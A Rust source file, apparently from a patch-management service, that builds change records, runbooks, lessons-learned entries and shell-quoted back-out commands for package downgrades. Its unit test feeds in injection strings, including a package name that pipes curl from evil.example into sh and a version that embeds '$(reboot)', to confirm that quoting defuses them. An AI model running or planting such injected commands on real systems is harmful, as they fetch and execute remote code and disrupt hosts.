//! Change records (`CHG-<nnnn>`), runbooks and the lessons-learned log.
//!
//! Every deployment has one change record, created with it (the zero-day lane
//! creates both in one transaction; deployments from before get theirs when
//! the server starts, `App::init_change_records`). Its content is computed when read, from
//! the deployment, the patch catalog, KEV, the plan preview (windows), the
//! installed versions (the back-out plan: each package returns to the version
//! installed before the change, which is also what the agent records as its
//! rollback plan before applying) and the approvals; the outcome is the
//! deployment's status until the rollout engine reports, with each host's
//! job (state, error, and per package the pinned version and the versions
//! before and after as its agent reported them: [`host_outcomes`]). A
//! runbook is the record plus the owners of its assets and the tokens that
//! may approve it ([`patchbay_render::Runbook`], returned as data); its
//! Markdown and HTML are made by `patchbay-render`. The back-out commands are made here, each
//! stored value one quoted shell word ([`back_out_command`]).

use crate::{App, AppError, Caller, RequestCtx, fmt_ts};
use patchbay_core::auth::Action;
use patchbay_core::names::is_unsafe_char;
use patchbay_proto::api::{
    BackOutStep, ChangeApproval, ChangePatch, ChangeRecordOut, ChangeSummaryOut, HostOutcome,
    LessonOut, PackageOutcome, PlanRequest,
};
use patchbay_proto::error::ErrorCode;
use patchbay_render::Runbook;
use serde_json::json;
use std::collections::{BTreeMap, BTreeSet};

/// Longest lesson: 16 KiB is several pages of text, and a lesson is shown in
/// every runbook of its change.
pub const MAX_LESSON_BYTES: usize = 16 * 1024;

fn lesson_out(l: &patchbay_store::LessonRow) -> LessonOut {
    LessonOut {
        id: l.id,
        change_id: l.change_id.clone(),
        at: fmt_ts(l.at),
        author: l.author.clone(),
        text: l.text.clone(),
    }
}

/// One word for a POSIX shell: `value` unchanged when it is made of safe
/// characters only, otherwise single-quoted (by `shlex`, the quoting of
/// Python's `shlex.quote`). Package names and versions are held to their
/// ecosystem's rules at check-in, but a command shown to people for pasting
/// must be safe whatever the database holds (rows from before those rules,
/// imports). A NUL cannot be passed in an argument at all and is dropped.
pub fn shell_word(value: &str) -> String {
    let v = value.replace('\0', "");
    shlex::try_quote(&v)
        .map(|q| q.into_owned())
        .unwrap_or_else(|_| "''".to_string())
}

/// The back-out command for one package, by package format; every value from
/// the database is one quoted shell word.
pub fn back_out_command(format: &str, package: &str, version: &str) -> String {
    // Quoting keeps a word one word, but a line break inside it would still
    // split what people paste into lines (and end the `# or:` comment): no
    // command for such a value (check-ins and imports refuse them).
    if package.chars().chain(version.chars()).any(is_unsafe_char) {
        return "# no command: the stored package name or version contains control characters; \
                check the asset's inventory"
            .to_string();
    }
    match format {
        "rpm" => format!(
            "dnf -y install {}  # or: zypper install --oldpackage {}",
            shell_word(&format!("{package}-{version}")),
            shell_word(&format!("{package}={version}"))
        ),
        "apk" => format!("apk add {}", shell_word(&format!("{package}={version}"))),
        _ => format!(
            "apt-get install -y --allow-downgrades -o Dpkg::Options::=--force-confold {}",
            shell_word(&format!("{package}={version}"))
        ),
    }
}

impl App {
    /// Gives every deployment from before change records existed its record
    /// (audited when one is created); returns how many. Run once at start:
    /// deployments made since get theirs in their own transaction.
    pub async fn init_change_records(&self) -> Result<u64, AppError> {
        let (deps, have) = {
            let mut tx = self.store.read().await?;
            (
                tx.list_deployments().await?,
                tx.list_change_records().await?,
            )
        };
        let have: BTreeSet<String> = have.into_iter().map(|c| c.deployment).collect();
        let missing: Vec<_> = deps.into_iter().filter(|d| !have.contains(&d.id)).collect();
        if missing.is_empty() {
            return Ok(0);
        }
        let n = missing.len() as u64;
        let mut tx = self
            .change_by_system(crate::system::SystemActor::Bootstrap)
            .await?;
        let mut any = false;
        for d in missing {
            let (c, created) = tx
                .ensure_change_record(&d.id, self.now(), &d.created_by)
                .await?;
            any |= created;
            if created {
                tx.audit(
                    "change.create",
                    &format!("change:{}", c.id),
                    json!({"deployment": d.id}),
                )
                .await?;
            }
        }
        if any {
            tx.commit().await?;
        }
        // Else another replica created them first: nothing was written.
        Ok(n)
    }

    /// Change records, newest first.
    pub async fn change_records(
        &self,
        caller: &Caller,
        ctx: &RequestCtx,
    ) -> Result<Vec<ChangeSummaryOut>, AppError> {
        self.require(caller, Action::ReadInventory, ctx).await?;
        let (changes, deps) = self.change_rows().await?;
        if changes.is_empty() {
            // No record: no catalog to read every finding for.
            return Ok(vec![]);
        }
        let tiers = self.patch_tiers().await?;
        Ok(change_summaries(&changes, &deps, &tiers))
    }

    /// Each patch's highest tier over every finding, resolved ones too (one
    /// patch catalog for all change records, not a full record each).
    pub(crate) async fn patch_tiers(&self) -> Result<BTreeMap<String, String>, AppError> {
        let mut snap = self.snapshot().await?;
        let (policy, _) = snap.policy_in_force().await?;
        let all = snap.findings(None, true).await?;
        let ranked = snap.rank(&policy, all).await?;
        drop(snap);
        Ok(self
            .patches_from(&policy, &ranked)
            .await
            .into_iter()
            .map(|p| (p.name, p.highest_tier))
            .collect())
    }

    /// The change records and their deployments as stored, read now.
    pub(crate) async fn change_rows(
        &self,
    ) -> Result<
        (
            Vec<patchbay_store::ChangeRow>,
            Vec<patchbay_store::DeploymentRow>,
        ),
        AppError,
    > {
        let mut tx = self.store.read().await?;
        let changes = tx.list_change_records().await?;
        let deps = if changes.is_empty() {
            vec![]
        } else {
            tx.list_deployments().await?
        };
        Ok((changes, deps))
    }
}

/// The change list, newest first; `tiers` gives each patch's highest tier
/// (a patch it does not name shows `-`).
pub(crate) fn change_summaries(
    changes: &[patchbay_store::ChangeRow],
    deps: &[patchbay_store::DeploymentRow],
    tiers: &BTreeMap<String, String>,
) -> Vec<ChangeSummaryOut> {
    changes
        .iter()
        .rev()
        .filter_map(|c| {
            let d = deps.iter().find(|d| d.id == c.deployment)?;
            Some(ChangeSummaryOut {
                id: c.id.clone(),
                deployment: d.id.clone(),
                kind: d.kind.clone(),
                status: d.status.clone(),
                highest_tier: d
                    .patches
                    .iter()
                    .filter_map(|p| tiers.get(p.as_str()).map(String::as_str))
                    .min()
                    .unwrap_or("-")
                    .to_string(),
                assets: d.assets.len(),
                patches: d.patches.len(),
                created_at: fmt_ts(c.created_at),
            })
        })
        .collect()
}

impl App {
    /// One change record with everything it shows.
    pub async fn change_record(
        &self,
        caller: &Caller,
        id: &str,
        ctx: &RequestCtx,
    ) -> Result<ChangeRecordOut, AppError> {
        self.require(caller, Action::ReadInventory, ctx).await?;
        let id = id.trim().to_ascii_uppercase();
        let mut snap = self.snapshot().await?;
        let (change, dep, approvals, lessons, assets, kev, rollout, jobs) = {
            let tx = snap.tx();
            let change = tx
                .list_change_records()
                .await?
                .into_iter()
                .find(|c| c.id == id || c.deployment == id)
                .ok_or_else(|| AppError::not_found(format!("no change record {id:?}")))?;
            let dep = tx
                .list_deployments()
                .await?
                .into_iter()
                .find(|d| d.id == change.deployment)
                .ok_or_else(|| {
                    AppError::not_found(format!("deployment {} is gone", change.deployment))
                })?;
            let rollout = tx.rollout(&change.deployment).await?;
            let jobs = match &rollout {
                Some(_) => tx.jobs_of(&change.deployment).await?,
                None => vec![],
            };
            let assets = tx.assets_by_names(&dep.assets).await?;
            (
                change,
                dep,
                tx.list_blackout_approvals().await?,
                tx.list_lessons().await?,
                assets,
                tx.all_kev().await?,
                rollout,
                jobs,
            )
        };
        let hosts = match &rollout {
            Some(r) => host_outcomes(r, &jobs)?,
            None => vec![],
        };
        let rollout = rollout
            .map(|r| crate::deployments::summary_of(&r))
            .transpose()?;
        let (policy, _) = snap.policy_in_force().await?;
        // Every finding (open or resolved) on the deployment's assets (read
        // for those assets only).
        let on_scope = snap.findings_of_assets(&dep.assets).await?;
        let now = self.now();
        let mut hosts = hosts;
        retest_hosts(&mut hosts, &on_scope, now);
        let ranked = snap.rank(&policy, on_scope.clone()).await?;
        drop(snap);
        let test_report = match &rollout {
            Some(_) => Some(self.test_report_summary(caller, &dep.id, ctx).await?),
            None => None,
        };
        let catalog = self.patches_from(&policy, &ranked).await;
        let patches: Vec<ChangePatch> = dep
            .patches
            .iter()
            .map(|name| match catalog.iter().find(|p| &p.name == name) {
                Some(p) => ChangePatch {
                    name: p.name.clone(),
                    package: p.package.clone(),
                    fixed_version: p.fixed_version.clone(),
                    highest_tier: p.highest_tier.clone(),
                    cves: p.cves.clone(),
                },
                None => ChangePatch {
                    name: name.clone(),
                    package: String::new(),
                    fixed_version: String::new(),
                    highest_tier: String::new(),
                    cves: vec![],
                },
            })
            .collect();
        let highest_tier = patches
            .iter()
            .filter(|p| !p.highest_tier.is_empty())
            .map(|p| p.highest_tier.clone())
            .min()
            .unwrap_or_else(|| "-".into());
        let kev_set: BTreeSet<&str> = kev.iter().map(|k| k.cve.as_str()).collect();
        let kev_cves: Vec<String> = patches
            .iter()
            .flat_map(|p| p.cves.iter())
            .filter(|c| kev_set.contains(c.as_str()))
            .cloned()
            .collect::<BTreeSet<_>>()
            .into_iter()
            .collect();
        // The findings the change closes, and the back-out plan: per asset and
        // binary package of each patched source, the installed version.
        let pkgs: BTreeMap<&str, &str> = patches
            .iter()
            .map(|p| (p.package.as_str(), p.fixed_version.as_str()))
            .collect();
        let formats: BTreeMap<&str, &str> = assets
            .iter()
            .map(|a| {
                (
                    a.name.as_str(),
                    a.package_format.as_deref().unwrap_or("deb"),
                )
            })
            .collect();
        let mut findings = 0u64;
        let mut steps: BTreeMap<(String, String), BackOutStep> = BTreeMap::new();
        for f in &on_scope {
            let target = pkgs
                .get(f.source_package.as_str())
                .or_else(|| pkgs.get(f.package.as_str()));
            let Some(target) = target else { continue };
            if f.resolved_at.is_none() {
                findings += 1;
            }
            let fmt = formats.get(f.asset.as_str()).copied().unwrap_or("deb");
            steps
                .entry((f.asset.clone(), f.package.clone()))
                .or_insert_with(|| BackOutStep {
                    asset: f.asset.clone(),
                    package: f.package.clone(),
                    installed_version: f.installed_version.clone(),
                    target_version: f
                        .fixed_version
                        .clone()
                        .unwrap_or_else(|| target.to_string()),
                    command: back_out_command(fmt, &f.package, &f.installed_version),
                });
        }
        let plan = self
            .plan_preview(
                caller,
                &PlanRequest {
                    deployment: Some(dep.id.clone()),
                    ..PlanRequest::default()
                },
                ctx,
            )
            .await?;
        let approvals: Vec<ChangeApproval> = approvals
            .iter()
            .filter(|a| a.deployment == dep.id)
            .map(|a| ChangeApproval {
                subject: format!("blackout:{}", a.blackout),
                approver: a.approver.clone(),
                at: fmt_ts(a.approved_at),
                note: a.note.clone(),
            })
            .collect();
        let risk = format!(
            "{} {} change of {} patch(es) on {} asset(s), closing {} open finding(s){}",
            highest_tier,
            if dep.kind == "oob" {
                "out-of-band"
            } else {
                "baseline"
            },
            patches.len(),
            dep.assets.len(),
            findings,
            if kev_cves.is_empty() {
                String::new()
            } else {
                format!("; {} CVE(s) actively exploited (CISA KEV)", kev_cves.len())
            }
        );
        Ok(ChangeRecordOut {
            id: change.id.clone(),
            deployment: dep.id.clone(),
            kind: dep.kind.clone(),
            reason: dep.reason.clone(),
            created_at: fmt_ts(change.created_at),
            created_by: change.created_by.clone(),
            assets: dep.assets.clone(),
            patches,
            highest_tier,
            kev_cves,
            findings,
            risk,
            rings: plan.rings,
            windows: plan.assets,
            back_out: steps.into_values().collect(),
            approvals,
            outcome: match &rollout {
                Some(r) => match &r.reason {
                    Some(why) => format!("{}: {why}", r.status),
                    None => r.status.clone(),
                },
                None => dep.status.clone(),
            },
            rollout,
            hosts,
            test_report,
            lessons: lessons
                .iter()
                .filter(|l| l.change_id == change.id)
                .map(lesson_out)
                .collect(),
        })
    }

    /// Adds a lessons-learned entry (admin, operator).
    pub async fn add_lesson(
        &self,
        caller: &Caller,
        id: &str,
        text: &str,
        ctx: &RequestCtx,
    ) -> Result<LessonOut, AppError> {
        self.require(caller, Action::WriteAssets, ctx).await?;
        let text = text.replace("\r\n", "\n");
        let text = text.trim();
        if text.is_empty() {
            return Err(AppError::invalid("text: a lesson needs text"));
        }
        if text.len() > MAX_LESSON_BYTES {
            return Err(AppError::new(
                ErrorCode::PayloadTooLarge,
                format!(
                    "text: a lesson is at most {MAX_LESSON_BYTES} bytes (16 KiB), this one is {}",
                    text.len()
                ),
            ));
        }
        if let Some(c) = text
            .chars()
            .find(|&c| c != '\n' && c != '\t' && is_unsafe_char(c))
        {
            return Err(AppError::invalid(format!(
                "text: contains the control character {c:?}; a lesson may hold line breaks and tabs, \
                 but no other control, bidirectional or zero-width characters"
            )));
        }
        let id = id.trim().to_ascii_uppercase();
        let mut tx = self.change(caller, Action::WriteAssets, ctx).await?;
        if !tx.list_change_records().await?.iter().any(|c| c.id == id) {
            return Err(AppError::not_found(format!("no change record {id:?}")));
        }
        let now = self.now();
        let lid = tx.add_lesson(&id, text, &caller.actor(), now).await?;
        tx.audit(
            "change.lesson",
            &format!("change:{id}"),
            json!({"lesson": lid, "text": text}),
        )
        .await?;
        tx.commit().await?;
        Ok(LessonOut {
            id: lid,
            change_id: id,
            at: fmt_ts(now),
            author: caller.actor(),
            text: text.to_string(),
        })
    }

    /// Lessons whose text contains every word of `query` (case-insensitive);
    /// all lessons for an empty query.
    pub async fn search_lessons(
        &self,
        caller: &Caller,
        query: &str,
        ctx: &RequestCtx,
    ) -> Result<Vec<LessonOut>, AppError> {
        self.require(caller, Action::ReadInventory, ctx).await?;
        let words: Vec<String> = query.split_whitespace().map(str::to_lowercase).collect();
        let mut tx = self.store.read().await?;
        Ok(tx
            .list_lessons()
            .await?
            .iter()
            .filter(|l| {
                let t = l.text.to_lowercase();
                words.iter().all(|w| t.contains(w))
            })
            .map(lesson_out)
            .collect())
    }

    /// The change's runbook, as data (rendered by `patchbay-render`).
    pub async fn runbook(
        &self,
        caller: &Caller,
        id: &str,
        ctx: &RequestCtx,
    ) -> Result<Runbook, AppError> {
        let c = self.change_record(caller, id, ctx).await?;
        self.runbook_of(c).await
    }

    /// The runbook of a record already computed.
    pub(crate) async fn runbook_of(&self, change: ChangeRecordOut) -> Result<Runbook, AppError> {
        let mut tx = self.store.read().await?;
        // The change's assets only (not the fleet's).
        let owners: BTreeSet<String> = tx
            .assets_by_names(&change.assets)
            .await?
            .into_iter()
            .filter(|a| !a.attrs.owner.is_empty())
            .map(|a| a.attrs.owner)
            .collect();
        let approvers: BTreeSet<String> = tx
            .list_api_tokens()
            .await?
            .into_iter()
            .filter(|t| t.revoked_at.is_none() && matches!(t.role.as_str(), "approver" | "admin"))
            .map(|t| format!("token:{}:{}", t.id, t.name))
            .collect();
        Ok(Runbook {
            change,
            owners,
            approvers,
        })
    }
}

/// Each host's job of a rollout, in ring order: its state and error from
/// the stored rollout, and per package the pinned version with the versions
/// before and after that the agent reported for the apply job (after a
/// rollback, `after` is what the rollback restored).
pub fn host_outcomes(
    rollout: &patchbay_store::RolloutRow,
    jobs: &[patchbay_store::AgentJobRow],
) -> Result<Vec<HostOutcome>, AppError> {
    use patchbay_proto::agent::{JobOutcome, JobResult};
    let stored: crate::deployments::StoredRollout = serde_json::from_value(rollout.state.clone())
        .map_err(|e| {
        AppError::new(
            ErrorCode::Internal,
            format!("stored rollout {} does not decode: {e}", rollout.deployment),
        )
    })?;
    let by_key: BTreeMap<&str, &patchbay_store::AgentJobRow> =
        jobs.iter().map(|j| (j.key.as_str(), j)).collect();
    let result = |key: &str| -> Option<JobResult> {
        by_key
            .get(key)
            .and_then(|j| j.result.clone())
            .and_then(|v| serde_json::from_value(v).ok())
    };
    let mut out = Vec::new();
    for ring in &stored.rollout.rings {
        for j in &ring.jobs {
            let apply = result(&j.spec.key);
            let rollback = result(&format!("{}/rollback", j.spec.key));
            let mut packages: Vec<PackageOutcome> = stored
                .pins
                .get(&j.spec.host)
                .into_iter()
                .flatten()
                .map(|p| PackageOutcome {
                    name: p.name.clone(),
                    target: Some(p.version.clone()),
                    before: None,
                    after: None,
                })
                .collect();
            for c in apply.iter().flat_map(|r| r.changed.iter()) {
                match packages.iter_mut().find(|p| p.name == c.name) {
                    Some(p) => {
                        p.before = c.before.clone();
                        p.after = c.after.clone();
                    }
                    None => packages.push(PackageOutcome {
                        name: c.name.clone(),
                        target: None,
                        before: c.before.clone(),
                        after: c.after.clone(),
                    }),
                }
            }
            if let Some(r) = rollback
                .as_ref()
                .filter(|r| r.outcome == JobOutcome::RolledBack)
            {
                for c in &r.changed {
                    if let Some(p) = packages.iter_mut().find(|p| p.name == c.name) {
                        p.after = c.after.clone();
                    }
                }
            }
            out.push(HostOutcome {
                host: j.spec.host.clone(),
                ring: ring.spec.name.clone(),
                state: serde_json::to_value(j.state)
                    .ok()
                    .and_then(|v| v.as_str().map(str::to_string))
                    .unwrap_or_default(),
                leased_at: by_key.get(j.spec.key.as_str()).map(|r| fmt_ts(r.leased_at)),
                finished_at: j.finished_at.map(fmt_ts),
                error: j.error.clone(),
                packages,
                retest: vec![],
                not_remediated: false,
                rollback: rollback.map(|r| {
                    let outcome = serde_json::to_value(r.outcome)
                        .ok()
                        .and_then(|v| v.as_str().map(str::to_string))
                        .unwrap_or_default();
                    match r.message {
                        Some(m) => format!("{outcome}: {m}"),
                        None => outcome,
                    }
                }),
            });
        }
    }
    Ok(out)
}

/// Fills each host's re-test (`patchbay_core::report::deployments::retest`)
/// from its host's findings, open and resolved, at `now`; a succeeded job
/// with a targeted CVE still open is `not_remediated`.
pub(crate) fn retest_hosts(
    hosts: &mut [HostOutcome],
    findings: &[patchbay_proto::api::FindingOut],
    now: jiff::Timestamp,
) {
    use patchbay_core::report::deployments::{Target, retest};
    let parse = |s: &str| s.parse::<jiff::Timestamp>().ok();
    for h in hosts.iter_mut() {
        let pins: Vec<String> = h
            .packages
            .iter()
            .filter(|p| p.target.is_some())
            .map(|p| p.name.clone())
            .collect();
        let mine: Vec<Target<'_>> = findings
            .iter()
            .filter(|f| f.asset == h.host)
            .filter_map(|f| {
                Some(Target {
                    advisory: &f.advisory,
                    cves: &f.cves,
                    package: &f.package,
                    first_seen: parse(&f.first_seen)?,
                    resolved_at: f.resolved_at.as_deref().and_then(parse),
                    fixable: f.fixed_version.is_some(),
                })
            })
            .collect();
        let leased = h.leased_at.as_deref().and_then(parse);
        let verdicts = retest(&pins, leased, &mine, now);
        h.not_remediated = h.state == "succeeded" && verdicts.iter().any(|v| !v.closed);
        h.retest = verdicts
            .into_iter()
            .map(|v| patchbay_proto::api::RetestOut {
                cve: v.cve,
                advisories: v.advisories,
                packages: v.packages,
                closed: v.closed,
                closed_at: v.closed_at.map(fmt_ts),
            })
            .collect();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Security issue, hole 4: whatever the database holds, a back-out command
    /// is the command plus the package pin as exactly one shell word.
    #[test]
    fn back_out_commands_quote_shell_metacharacters() {
        let name = "libssl3;curl http://evil.example/x|sh;#";
        let version = "3.0.17-1$(reboot)`id`'\"\\ ~{a,b}*";
        for (fmt, program, pin) in [
            ("deb", "apt-get", format!("{name}={version}")),
            ("apk", "apk", format!("{name}={version}")),
            ("rpm", "dnf", format!("{name}-{version}")),
        ] {
            let cmd = back_out_command(fmt, name, version);
            let words = shlex::split(&cmd).unwrap_or_else(|| panic!("{cmd}"));
            assert_eq!(words[0], program, "{cmd}");
            let i = words
                .iter()
                .position(|w| w == &pin)
                .expect("the pin is one word");
            assert!(words[..i].iter().all(|w| !w.contains("curl")), "{cmd}");
            // A real POSIX shell agrees: printf shows each argument on its own
            // line, and nothing of the value runs.
            let probe = cmd.replacen(program, "printf '%s\\n'", 1);
            let probe = probe.split("  # or:").next().unwrap();
            let out = std::process::Command::new("/bin/sh")
                .args(["-c", probe])
                .output()
                .expect("/bin/sh");
            assert!(out.status.success(), "{probe}");
            let printed = String::from_utf8(out.stdout).unwrap();
            assert!(printed.ends_with(&format!("{pin}\n")), "{printed:?}");
        }
        // Plain values stay readable.
        assert_eq!(
            back_out_command("apk", "musl", "1.2.4-r2"),
            "apk add 'musl=1.2.4-r2'"
        );
        assert_eq!(shell_word("nul\0byte"), "nulbyte");
        // A line break would split a pasted command: no command at all.
        let cmd = back_out_command("rpm", "x", "1\nreboot");
        assert!(cmd.starts_with("# no command"), "{cmd}");
        assert!(!cmd.contains('\n'));
    }
}
